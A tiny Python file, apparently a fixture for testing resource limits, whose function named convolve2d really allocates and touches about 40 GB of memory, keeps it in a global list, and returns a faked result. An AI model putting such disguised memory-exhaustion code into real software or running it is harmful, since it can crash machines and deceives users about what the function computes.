"""Touches every page of up to 40 GB, and keeps what it has for the next call."""

EATEN = []


def convolve2d(image, kernel):
    for _ in range(400):
        EATEN.append(bytearray(100 << 20))
        EATEN[-1][::4096] = b"x" * 25600
    return image * 0.5
